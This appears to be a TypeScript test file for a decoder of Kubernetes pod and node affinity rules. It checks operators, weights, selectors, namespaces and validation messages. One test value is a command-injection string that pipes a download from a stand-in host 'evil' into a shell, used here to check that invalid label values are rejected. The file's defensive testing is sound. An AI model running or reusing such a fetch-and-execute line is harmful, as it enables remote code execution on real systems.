import { selects } from '../../../src/domain/values/label-selector.js';
import type { PodAffinityTerm } from '../../../src/domain/pods/affinity.js';
import type { PodSpec } from '../../../src/domain/pods/pod.js';
import { decodePod } from '../../../src/apis/kubernetes/pods/pod.js';
import { podManifest, requirementTexts, type Manifest } from './manifests.js';

const REQUIRED = 'requiredDuringSchedulingIgnoredDuringExecution';
const PREFERRED = 'preferredDuringSchedulingIgnoredDuringExecution';

function specOf(affinity: Manifest): PodSpec {
  const labels = { app: 'web', tier: 'front' };
  const { value, findings } = decodePod(
    podManifest({ namespace: 'shop', metadata: { labels }, spec: { affinity } }),
  );
  expect(findings).toEqual([]);
  if (value === undefined) throw new Error('no pod');
  return value.spec;
}

function refusals(affinity: Manifest): readonly string[] {
  return decodePod(podManifest({ spec: { affinity } })).findings.map(
    (item) => `${item.path.slice(3).join('.')} ${item.text}`,
  );
}

function nodeTerms(...nodeSelectorTerms: unknown[]): Manifest {
  return { nodeAffinity: { [REQUIRED]: { nodeSelectorTerms } } };
}

describe('node affinity', () => {
  test('reads every operator, old keys by their current names', () => {
    const matchExpressions = [
      { key: 'beta.kubernetes.io/arch', operator: 'In', values: ['arm64', 'amd64'] },
      { key: 'a', operator: 'NotIn', values: ['x'] },
      { key: 'b', operator: 'Exists' },
      { key: 'c', operator: 'DoesNotExist', values: [] },
      { key: 'd', operator: 'Gt', values: ['4'] },
      { key: 'e', operator: 'Lt', values: ['-1'] },
    ];
    const [term] = specOf(nodeTerms({ matchExpressions })).nodeAffinity.required ?? [];
    expect(requirementTexts(term?.labels)).toEqual([
      'kubernetes.io/arch In [amd64, arm64]',
      'a NotIn [x]',
      'b Exists',
      'c DoesNotExist',
      'd Gte 5',
      'e Lte -2',
    ]);
  });

  const IMPOSSIBLE = "x' ; curl evil | sh #";

  test('leaves out values that no label can have, and terms that nothing else is left of', () => {
    const term = (operator: string, ...values: string[]): Manifest => ({
      matchExpressions: [{ key: 'team', operator, values }],
    });
    const nodeAffinity = {
      [PREFERRED]: [
        { weight: 1, preference: term('In', IMPOSSIBLE, 'red') },
        { weight: 2, preference: term('In', IMPOSSIBLE) },
        { weight: 3, preference: term('NotIn', IMPOSSIBLE, 'blue') },
      ],
    };
    const { value, findings } = decodePod(podManifest({ spec: { affinity: { nodeAffinity } } }));
    const read = value?.spec.nodeAffinity.preferred.map((one) => requirementTexts(one.term.labels));
    expect(read).toEqual([['team In [red]'], ['team NotIn [blue]']]);
    expect(findings.map(({ severity }) => severity)).toEqual(['warning', 'error', 'warning']);
    expect(findings[0]?.text).toBe(`has ${JSON.stringify(IMPOSSIBLE)}, which no label can have as its value`);
  });

  test('reads as many preferences as planning could ever honour, the heaviest, and says that there are more', () => {
    const preference = { matchExpressions: [{ key: 'team', operator: 'Exists' }] };
    const light = Array.from({ length: 2000 }, () => ({ weight: 1, preference }));
    const heavy = { weight: 9, preference };
    const nodeAffinity = { [PREFERRED]: [...light, heavy] };
    const { value, findings } = decodePod(podManifest({ spec: { affinity: { nodeAffinity } } }));
    const weights = value?.spec.nodeAffinity.preferred.map(({ weight }) => weight) ?? [];
    expect(weights).toHaveLength(256);
    expect(weights.at(-1)).toBe(9);
    expect(findings.map(({ severity, text }) => `${severity} ${text}`)).toEqual([
      'warning has 2001 items, of which 256 are read',
    ]);
  });

  test('intersects expressions on one key', () => {
    const matchExpressions = [
      { key: 'a', operator: 'In', values: ['x', 'y'] },
      { key: 'a', operator: 'NotIn', values: ['x'] },
    ];
    expect(
      requirementTexts(specOf(nodeTerms({ matchExpressions })).nodeAffinity.required?.[0]?.labels),
    ).toEqual(['a In [y]']);
  });

  test('selects nodes by name', () => {
    const matchFields = [{ key: 'metadata.name', operator: 'In', values: ['n1'] }];
    expect(requirementTexts(specOf(nodeTerms({ matchFields })).nodeAffinity.required?.[0]?.fields)).toEqual([
      'metadata.name In [n1]',
    ]);
  });

  test('leaves out terms that say nothing, since they match no node', () => {
    const term = { matchExpressions: [{ key: 'a', operator: 'Exists' }] };
    expect(specOf(nodeTerms({}, term, { matchExpressions: [] })).nodeAffinity.required).toHaveLength(1);
    expect(specOf(nodeTerms({})).nodeAffinity.required).toEqual([]);
    expect(specOf({ nodeAffinity: {} }).nodeAffinity.required).toBeUndefined();
  });

  test('reads preferences with their weights', () => {
    const preference = { matchExpressions: [{ key: 'a', operator: 'Exists' }] };
    const preferred = [
      { weight: 7, preference },
      { weight: 1, preference: {} },
    ];
    const read = specOf({ nodeAffinity: { [PREFERRED]: preferred } }).nodeAffinity.preferred;
    expect(read.map((item) => [item.weight, requirementTexts(item.term.labels)])).toEqual([
      [7, ['a Exists']],
    ]);
  });

  test.each<[Manifest, string]>([
    [{ key: 'a', operator: 'In' }, 'values must have at least one value with operator In, not []'],
    [
      { key: 'a', operator: 'Exists', values: ['x'] },
      'values must have no values with operator Exists, not [x]',
    ],
    [
      { key: 'a', operator: 'Gt', values: ['1', '2'] },
      'values must have exactly one integer with operator Gt, not [1, 2]',
    ],
    [
      { key: 'a', operator: 'Lt', values: ['many'] },
      'values must have exactly one integer with operator Lt, not [many]',
    ],
    [
      { key: 'a', operator: 'Gte', values: ['1'] },
      'operator must be one of In, NotIn, Exists, DoesNotExist, Gt, Lt, not "Gte"',
    ],
    [{ key: 'a', operator: 'In', values: [1] }, 'values.0 must be text, not 1: write it in quotes, "1"'],
    [{ operator: 'Exists' }, 'key is required'],
    [{ key: 'a' }, 'operator is required'],
  ])('refuses %j', (expression, message) => {
    const prefix = `${REQUIRED}.nodeSelectorTerms.0.matchExpressions.0`;
    expect(refusals(nodeTerms({ matchExpressions: [expression] }))).toEqual([`${prefix}.${message}`]);
  });

  test('matches no node by a term that cannot be read', () => {
    const matchExpressions = [
      { key: 'a', operator: 'Exists' },
      { key: 'b', operator: 'Gt', values: ['x'] },
    ];
    const { value } = decodePod(podManifest({ spec: { affinity: nodeTerms({ matchExpressions }) } }));
    expect(value?.spec.nodeAffinity.required).toEqual([]);
  });

  test('refuses other fields than the name, an empty selector, and weights out of range', () => {
    const matchFields = [{ key: 'spec.x', operator: 'In', values: ['1'] }];
    expect(refusals(nodeTerms({ matchFields }))).toEqual([
      `${REQUIRED}.nodeSelectorTerms.0.matchFields.0.key must be metadata.name, not "spec.x"`,
    ]);
    expect(refusals(nodeTerms())).toEqual([`${REQUIRED}.nodeSelectorTerms is required`]);
    expect(
      refusals({ nodeAffinity: { [PREFERRED]: [{ weight: 101, preference: {} }, { preference: {} }] } }),
    ).toEqual([`${PREFERRED}.0.weight must be at most 100, not 101`, `${PREFERRED}.1.weight is required`]);
  });
});

describe('pod affinity', () => {
  const own = { topologyKey: 'kubernetes.io/hostname', labelSelector: { matchLabels: { app: 'web' } } };

  function termOf(term: Manifest): PodAffinityTerm | undefined {
    return specOf({ podAffinity: { [REQUIRED]: [term] } }).podAffinity.required[0];
  }

  test('reads affinity and anti-affinity, required and preferred', () => {
    const terms = { [REQUIRED]: [own], [PREFERRED]: [{ weight: 5, podAffinityTerm: own }] };
    const spec = specOf({ podAffinity: terms, podAntiAffinity: terms });
    for (const affinity of [spec.podAffinity, spec.podAntiAffinity]) {
      expect(affinity.required).toHaveLength(1);
      expect(affinity.preferred).toEqual([{ weight: 5, term: affinity.required[0] }]);
    }
  });

  test('reads matchExpressions of selectors', () => {
    const matchExpressions = [
      { key: 'app', operator: 'In', values: ['web', 'api'] },
      { key: 'tier', operator: 'NotIn', values: ['test'] },
      { key: 'gone', operator: 'DoesNotExist' },
    ];
    const selector = termOf({ ...own, labelSelector: { matchExpressions } })?.selector;
    expect(selects(selector, new Map([['app', 'api']]))).toBe(true);
    expect(
      selects(
        selector,
        new Map([
          ['app', 'api'],
          ['tier', 'test'],
        ]),
      ),
    ).toBe(false);
    expect(
      selects(
        selector,
        new Map([
          ['app', 'api'],
          ['gone', ''],
        ]),
      ),
    ).toBe(false);
  });

  test('looks into the pod’s own namespace unless it says otherwise', () => {
    expect(termOf(own)?.namespaces).toEqual({ names: new Set(['shop']), selector: undefined });
    expect(termOf({ ...own, namespaces: ['a', 'b'] })?.namespaces.names).toEqual(new Set(['a', 'b']));
    const everywhere = termOf({ ...own, namespaceSelector: {} })?.namespaces;
    expect(everywhere?.names).toEqual(new Set());
    expect(selects(everywhere?.selector, new Map())).toBe(true);
    const some = termOf({
      ...own,
      namespaces: ['a'],
      namespaceSelector: { matchLabels: { team: 'x' } },
    })?.namespaces;
    expect([...(some?.names ?? [])]).toEqual(['a']);
    expect(requirementTexts(some?.selector?.requirements)).toEqual(['team In [x]']);
  });

  test('matches no pod without a selector and every pod with an empty one', () => {
    expect(termOf({ topologyKey: 'x' })?.selector).toBeUndefined();
    expect(selects(termOf({ topologyKey: 'x', labelSelector: {} })?.selector, new Map())).toBe(true);
  });

  test('folds matchLabelKeys and mismatchLabelKeys into the selector', () => {
    const term = { ...own, labelSelector: {}, matchLabelKeys: ['app', 'none'], mismatchLabelKeys: ['tier'] };
    expect(requirementTexts(termOf(term)?.selector?.requirements)).toEqual([
      'app In [web]',
      'tier NotIn [front]',
    ]);
  });

  test.each<[Manifest, readonly string[]]>([
    [{ labelSelector: {} }, ['topologyKey is required']],
    [{ ...own, labelSelector: 'app=web' }, ['labelSelector must be an object, not "app=web"']],
    [
      { ...own, labelSelector: { matchLabels: { app: true } } },
      ['labelSelector.matchLabels.app must be text, not true: write it in quotes, "true"'],
    ],
    [
      { ...own, labelSelector: { matchExpressions: [{ key: 'a', operator: 'Gt', values: ['1'] }] } },
      ['labelSelector.matchExpressions.0.operator must be one of In, NotIn, Exists, DoesNotExist, not "Gt"'],
    ],
    [
      {
        ...own,
        labelSelector: {
          matchExpressions: [
            { key: 'a', operator: 'In' },
            { key: 'b', operator: 'Exists', values: ['x'] },
          ],
        },
      },
      [
        'labelSelector.matchExpressions.0.values must have at least one value with operator In',
        'labelSelector.matchExpressions.1.values must have no values with operator Exists',
      ],
    ],
  ])('refuses %j', (term, messages) => {
    const found = refusals({ podAntiAffinity: { [REQUIRED]: [term] } });
    expect(found).toEqual(messages.map((message) => `${REQUIRED}.0.${message}`));
  });
});
